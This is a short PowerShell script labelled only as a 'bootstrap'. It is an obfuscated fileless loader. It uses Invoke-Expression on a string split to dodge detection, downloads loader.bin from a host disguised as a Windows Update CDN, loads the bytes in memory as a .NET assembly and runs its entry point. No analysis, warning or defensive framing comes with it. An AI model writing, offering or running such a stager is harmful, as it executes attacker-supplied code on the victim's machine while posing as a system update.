iex ('# bootstrap 21'+'72 v3
$b = (New-Object Net.WebClient).DownloadData(''http://dl.winupdate-cdn.example/loader.bin'')
$a = [System.Reflection.Assembly]::Lo'+'ad($b)
$a.EntryPoint.Invoke($null, (, [string[]] @()))
')